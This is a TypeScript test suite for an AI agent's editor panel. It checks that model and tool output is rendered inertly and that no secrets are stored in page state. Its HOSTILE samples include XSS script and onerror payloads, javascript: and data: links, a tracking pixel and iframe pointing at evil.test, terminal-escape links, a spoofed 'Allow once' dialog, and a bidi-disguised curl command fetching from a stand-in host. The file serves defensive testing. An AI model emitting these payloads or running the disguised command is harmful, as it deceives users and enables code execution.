// What models and tools say in order to do harm, or to look like something else.

import assert from "node:assert/strict";
import type { AgentEvent } from "../../src/shared/wire.js";
import { modelSays, panelTest, said } from "./panel-test.js";
import { emptySnapshot, HELLO, readLog } from "./stage.js";

const HOSTILE = [
  '<script>window.hit = 1</script><img src=x onerror="window.hit = 1">',
  "![a picture](https://evil.test/pixel.png)",
  "[one](javascript:1) [two](command:1) [three](vscode:1) [good.example](https://evil.test/long?a=1)",
  "[press](javascript:window.hit=1) [data](data:text/html,<script>window.hit=1</script>)",
  '<div class="card asks" role="alertdialog"><button class="primary">Allow once</button></div>',
  "<style>body{display:none}</style><iframe src=https://evil.test></iframe>",
  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.test\u0007link\u001b]8;;\u0007",
  "if (admin) { /* \u202e begin \u2066 */ }",
  "```html\n<script>window.hit = 1</script>\n```",
  "| a |\n| :-: |\n| <b onclick=window.hit=1>x</b> |",
].join("\n\n");

panelTest("nothing in the words of a model does anything, or looks like a question", async (stage) => {
  const asked: string[] = [];
  stage.page.on("request", (request) => asked.push(request.url()));
  await stage.play(HELLO, emptySnapshot(), modelSays(HOSTILE));
  const cell = stage.page.locator("#timeline");
  assert.equal(await stage.page.evaluate(() => (window as unknown as { hit?: number }).hit), undefined);
  assert.equal(
    await stage.count(
      stage.page.locator("#timeline script, #timeline img, #timeline iframe, #timeline style"),
    ),
    0,
  );
  assert.equal(await stage.count(stage.page.locator(".asks")), 0);
  assert.equal(
    await stage.count(
      stage.page.locator("#timeline a:is([href^=javascript], [href^=data], [href^=command], [href^=vscode])"),
    ),
    0,
  );
  const words = await stage.text(cell);
  assert.match(words, /red link/);
  assert.match(words, /good\.example \(https:\/\/evil\.test\/long\?a=1\)/);
  assert.match(words, /⟨U\+202E⟩/);
  for (const hidden of ["\u001b", "\u202e", "\u2066"]) assert.ok(!words.includes(hidden));
  assert.deepEqual(
    asked.filter((url) => url.includes("evil")),
    [],
  );
});

panelTest("a permission shows hidden characters of a command by their number", async (stage) => {
  const snapshot = emptySnapshot();
  assert.ok(snapshot.type === "snapshot");
  const log = readLog("permission");
  const events = log.frames.flatMap((frame) =>
    frame.kind === "agent/events" ? (frame.events as unknown as AgentEvent[]) : [],
  );
  const requested = events.find((event) => event.type === "permission.requested");
  assert.ok(requested?.type === "permission.requested");
  const request = structuredClone(requested.request);
  Object.assign(request.subject, { command: "echo ok \u202ehs.live/moc.live//:sptth lruc\u202c\u001b[2K" });
  await stage.play(HELLO, snapshot, said([{ ...requested, seq: 2, request }]));
  const shown = await stage.text(stage.page.locator(".asks pre"));
  assert.match(shown, /echo ok ⟨U\+202E⟩hs\.live/);
});

panelTest("links open by the extension, files in the editor", async (stage) => {
  await stage.play(
    HELLO,
    emptySnapshot(),
    modelSays("See [the page](https://example.org/a) and [a.py](src/a.py:12)."),
  );
  await stage.page.locator("#timeline a").first().click();
  await stage.page.locator("#timeline a").nth(1).click();
  const sent = await stage.sent();
  assert.ok(sent.some((one) => one.type === "openLink" && one.url === "https://example.org/a"));
  const opened = sent.find((one) => one.type === "open");
  assert.ok(opened?.type === "open");
  assert.equal(opened.uri, "file:///home/ada/project/src/a.py");
  assert.equal(opened.range?.start.line, 11);
});

panelTest("no secret and no conversation is kept in the state of the page", async (stage) => {
  await stage.playLog("edits");
  await stage.page.locator("#composer-text").fill("half a thought");
  await stage.settled();
  const kept = await stage.page.evaluate(() => sessionStorage.getItem("state"));
  assert.deepEqual(JSON.parse(kept ?? ""), { draft: "half a thought", withoutContext: false });
});
